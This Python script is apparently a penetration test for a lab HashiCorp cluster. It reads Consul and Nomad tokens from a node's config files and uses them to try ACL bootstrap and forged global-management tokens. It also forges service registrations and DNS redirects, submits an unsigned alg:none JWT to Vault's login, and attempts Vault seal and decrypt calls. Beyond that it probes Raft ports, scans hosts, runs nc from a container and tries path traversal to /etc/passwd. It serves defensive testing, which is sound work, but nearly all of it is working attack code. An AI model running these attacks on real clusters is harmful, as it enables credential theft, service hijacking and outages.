"""A hostile worker against Consul, Nomad, Vault, the artifact store and all ports, with everything on its node.

Runs on the node. Argument: ``{"me", "support", "server", "server_id", "worker"}``, addresses but for ``server_id``.
"""

from __future__ import annotations

import base64
import json
import re
import socket
import ssl
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

LAB = json.loads(sys.argv[1])
CONSUL = Path("/etc/consul.d/consul.hcl").read_text(encoding="utf-8")
NOMAD = Path("/etc/nomad.d/nomad.hcl").read_text(encoding="utf-8")
TOKENS = {
    "anonymous": "",
    "agent": re.findall(r'agent = "([^"]+)"', CONSUL)[0],
    "dns": re.findall(r'dns   = "([^"]+)"', CONSUL)[0],
    "nomad client": re.findall(r'token     = "([^"]+)"', NOMAD)[0],
}
PLATFORM = ("consul", "nomad", "vault")
PORTS = (22, 53, 80, 111, 443, 2375, 2376, 4505, 4506, 4510, 4646, 4647, 4648, 8200, 8201, 8300, 8301, 8302, 8443)
PORTS += (8500, 8501, 8502, 8503, 8600, 9090, 10250)
STREAMS = ("monitor", "stream", "snapshot")
SEEN: dict[str, Any] = {}


def ask(root: str, port: int, path: str, **how: Any) -> tuple[int, Any]:
    """Status and data; 0 when nobody answered."""
    host = how.get("host", LAB["support"] if root == "support" else LAB["server"])
    trust = (
        "/usr/local/share/ca-certificates/saltern-support.crt" if root == "support" else f"/etc/ssl/nomad/{root}-ca.pem"
    )
    context = ssl.create_default_context(cafile=trust)
    if how.get("shows"):
        context.load_cert_chain(f"/etc/ssl/nomad/{how['shows']}.pem", f"/etc/ssl/nomad/{how['shows']}-key.pem")
    body = how.get("body")
    data = body if body is None or isinstance(body, bytes) else json.dumps(body).encode()
    header = {"consul": "X-Consul-Token", "nomad": "X-Nomad-Token"}.get(root, "X-Vault-Token")
    headers = {header: how["token"]} if how.get("token") else {}
    method = how.get("method") or ("GET" if body is None else "PUT")
    asked = urllib.request.Request(f"https://{host}:{port}{path}", data, headers, method=method)
    try:
        with urllib.request.urlopen(asked, context=context, timeout=5) as answer:  # noqa: S310 - https, as above
            text = answer.read(100 if any(one in path for one in STREAMS) else 1 << 20).decode(errors="replace")
            return answer.status, _data(text)
    except urllib.error.HTTPError as error:
        return error.code, _data(error.read(300).decode(errors="replace"))
    except OSError as error:
        return 0, str(error)


def _data(text: str) -> Any:
    try:
        return json.loads(text)
    except ValueError:
        return text


def shown(root: str, port: int, paths: dict[str, Any], **how: Any) -> list[str]:
    """Which of the paths (with a body, or None to read) showed or changed anything."""
    found = []
    for path, body in paths.items():
        status, data = ask(root, port, path, body=body, **how)
        if status == 0 or (200 <= status < 300 and data not in ([], {}, None, "")):
            found.append(f"{path} -> {status} {str(data)[:80]}")
    return found


def against_consul() -> None:
    secret = ("kv/?keys", "kv/vault/?keys", "kv/vault/core/keyring", "acl/tokens", "acl/policies", "operator/keyring")
    secret += ("operator/raft/configuration", "session/list", "snapshot", "query", "connect/ca/configuration")
    paths: dict[str, Any] = {f"/v1/{path}": None for path in secret}
    grab = {"Policies": [{"Name": "global-management"}]}
    paths |= {"/v1/kv/vault/forged": b"x", "/v1/kv/forged": b"x", "/v1/session/create": {"Name": "x"}}
    paths |= {"/v1/acl/token": grab, "/v1/acl/bootstrap": {}, "/v1/event/fire/x": b"", "/v1/agent/leave": b""}
    paths |= {f"/v1/agent/force-leave/{LAB['server_id']}": b"", "/v1/agent/maintenance?enable=true": b""}
    for name, token in TOKENS.items():
        SEEN[f"consul by {name}"] = shown("consul", 8501, paths, token=token)
        made = (ask("consul", 8501, "/v1/query", method="POST", body=one, token=token) for one in queries())
        SEEN[f"consul query by {name}"] = [status for status, _ in made]
    SEEN["consul anonymous catalog"] = ask("consul", 8501, "/v1/catalog/nodes")[1]
    SEEN["control: a token sees"] = len(ask("consul", 8501, "/v1/catalog/nodes", token=TOKENS["dns"])[1])


def queries() -> Iterator[dict[str, Any]]:
    for name in PLATFORM:
        yield {"Name": name, "Service": {"Service": "forged"}}


def against_the_catalog() -> None:
    for name in PLATFORM:
        for who in ("agent", "nomad client"):
            local = {"ID": f"forged-{name}", "Name": name, "Tags": ["active", "http"], "Address": LAB["me"], "Port": 1}
            service = {"ID": f"forged-{name}", "Service": name, "Tags": ["active", "http"], "Address": LAB["me"]}
            others = {"Node": LAB["server_id"], "Address": LAB["server"], "SkipNodeUpdate": True, "Service": service}
            redirect = {"Kind": "service-resolver", "Name": name, "Redirect": {"Service": "forged"}}
            token = TOKENS[who]
            SEEN[f"{who} registers {name}"] = [
                ask("consul", 8501, "/v1/agent/service/register", host="127.0.0.1", body=local, token=token)[0],
                ask("consul", 8501, "/v1/catalog/register", body=others, token=token)[0],
                ask("consul", 8501, "/v1/config", body=redirect, token=token)[0],
            ]
    for name in ("active.vault", "vault", "nomad", "consul"):
        found = {row[4][0] for row in socket.getaddrinfo(f"{name}.service.consul", 1)}
        SEEN[f"name {name}"] = LAB["me"] in found


def against_nomad() -> None:
    own = Path("/opt/nomad/client/secret-id").read_text(encoding="ascii").strip()
    read = ("jobs", "job/canary", "allocations", "acl/tokens", "acl/policies", "vars", "operator/raft/configuration")
    read += ("operator/keyring/keys", "operator/snapshot", "deployments", "evaluations", "volumes", "namespaces")
    paths: dict[str, Any] = {f"/v1/{path}": None for path in read}
    task = {"Name": "t", "Driver": "docker", "Config": {"image": "x"}}
    job = {"ID": "forged", "Name": "forged", "Datacenters": ["*"], "TaskGroups": [{"Name": "g", "Tasks": [task]}]}
    paths |= {"/v1/jobs": {"Job": job}, "/v1/acl/bootstrap": {}, "/v1/acl/token": {"Type": "management", "Name": "x"}}
    paths |= {
        "/v1/system/gc": {},
        "/v1/operator/keyring/rotate": {},
        "/v1/var/nomad/jobs/canary": {"Items": {"a": "b"}},
    }
    callers: dict[str, dict[str, Any]] = {
        "nobody": {},
        "the node's secret": {"token": own},
        "its CLI": {"shows": "cli"},
    }
    for who, how in callers.items():
        for host in (LAB["server"], "127.0.0.1"):
            SEEN[f"nomad by {who} at {host}"] = shown("nomad", 4646, paths, host=host, **how)
    SEEN["control: the node's secret"] = ask("nomad", 4646, "/v1/nodes", token=own)[0]


def against_vault() -> None:
    read = (
        "sys/mounts",
        "secret/data/default/canary",
        "auth/jwt-nomad/config",
        "transit/keys/autounseal",
        "sys/host-info",
    )
    read += ("sys/policies/acl", "sys/audit", "sys/config/state/sanitized", "sys/in-flight-req", "sys/metrics")
    paths: dict[str, Any] = {f"/v1/{path}": None for path in read}
    paths |= {
        "/v1/sys/seal": {},
        "/v1/sys/step-down": {},
        "/v1/transit/decrypt/autounseal": {"ciphertext": "vault:v1:AA"},
    }
    paths |= {"/v1/auth/approle/login": {"role_id": "saltern-master"}, "/v1/auth/cert/login": {}}
    paths |= {"/v1/auth/jwt-nomad/login": {"role": "nomad-workloads", "jwt": forged_jwt()}}
    paths |= {"/v1/sys/init": {"secret_shares": 1, "secret_threshold": 1}}
    for host in (LAB["server"], LAB["support"]):
        SEEN[f"vault at {host}"] = shown("vault", 8200, paths, host=host, shows="vault")


def forged_jwt() -> str:
    """Signed by nobody: `alg: none`, with the canary's claims."""
    claims = {
        "aud": "vault.io",
        "nomad_namespace": "default",
        "nomad_job_id": "canary",
        "nomad_task": "canary",
        "sub": "x",
    }
    parts = ({"alg": "none", "typ": "JWT"}, {**claims, "iat": 0, "exp": 1 << 33})
    return ".".join(base64.urlsafe_b64encode(json.dumps(one).encode()).rstrip(b"=").decode() for one in parts) + "."


@contextmanager
def rpc(port: int, root: str, first: bytes, name: str, shows: str) -> Iterator[ssl.SSLSocket]:
    context = ssl.create_default_context(cafile=f"/etc/ssl/nomad/{root}-ca.pem")
    context.load_cert_chain(f"{shows}.pem", f"{shows}-key.pem")
    with socket.create_connection((LAB["server"], port), 5) as plain:
        plain.sendall(first)
        with context.wrap_socket(plain, server_hostname=name) as connection:
            connection.settimeout(3)
            yield connection


def against_raft() -> None:
    """As a server of the quorum: an empty answer is a closed door."""
    doors: dict[str, tuple[int, str, bytes, str, str]] = {
        "raft consul": (8300, "consul", b"\x03\x01", "server.dc1.consul", "/etc/ssl/consul/consul"),
        "raft nomad": (4647, "nomad", b"\x04", "server.global.nomad", "/etc/ssl/nomad/nomad"),
        "raft nomad by CLI": (4647, "nomad", b"\x04", "server.global.nomad", "/etc/ssl/nomad/cli"),
    }
    for name, (port, root, first, server, shows) in doors.items():
        try:
            with rpc(port, root, first[:1], server, shows) as connection:
                connection.sendall(first[1:] + bytes(32))
                SEEN[name] = connection.recv(64).hex()
        except OSError as error:
            SEEN[name] = "" if isinstance(error, ConnectionError | ssl.SSLError | TimeoutError) else str(error)


def against_names() -> None:
    """What this node's certificates could be taken for."""
    for file in sorted(Path("/etc/ssl").glob("*/*-key.pem")):
        certificate = str(file).replace("-key.pem", ".pem")
        asked = ("openssl", "x509", "-noout", "-ext", "subjectAltName", "-in", certificate)
        text = subprocess.run(asked, capture_output=True, text=True, check=True).stdout
        SEEN[f"names {file.parent.name}/{Path(certificate).stem}"] = sorted(re.findall(r"DNS:([^,\s]+)", text))


def against_ports() -> None:
    for whose in ("support", "server", "worker"):
        SEEN[f"ports {whose}"] = [port for port in PORTS if is_open(LAB[whose], port)]


def is_open(host: str, port: int) -> bool:
    try:
        with socket.create_connection((host, port), 0.5):
            return True
    except OSError:
        return False


def from_a_container() -> None:
    """What a job in Docker's default network reaches of the node that it runs on."""
    node = re.findall(
        r"inet ([0-9.]+)",
        subprocess.run(("ip", "-4", "address", "show", "docker0"), capture_output=True, text=True, check=True).stdout,
    )[0]
    image = subprocess.run(
        ("docker", "image", "ls", "--quiet", "saltern/canary"), capture_output=True, text=True, check=True
    )
    probe = "for port in 22 8503 4646 8501; do nc -w2 $0 $port </dev/null >/dev/null 2>&1 && echo $port; done; true"
    command = ("docker", "run", "--rm", image.stdout.split()[0], "sh", "-c", probe, node)
    reached = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    SEEN["ports of the node for its jobs"] = sorted(int(port) for port in reached.split())


def against_the_store() -> None:
    found = []
    for path in (
        "/",
        "/../etc/passwd",
        "/%2e%2e/etc/passwd",
        "/..%2f..%2fetc/passwd",
        "//etc/passwd",
        "/.forged",
        "/forged",
    ):
        for method, body in (("GET", None), ("PUT", b"x"), ("POST", b"x"), ("DELETE", None), ("MKCOL", None)):
            status, _ = ask("support", 8443, path, method=method, body=body)
            if status < 400:
                found.append(f"{method} {path} {status}")
    SEEN["artifact store"] = found


PARTS: tuple[Callable[[], None], ...] = (
    against_consul,
    against_the_catalog,
    against_nomad,
    against_vault,
    against_raft,
    against_names,
    against_ports,
    from_a_container,
    against_the_store,
)
for part in PARTS:
    part()
print(json.dumps(SEEN))
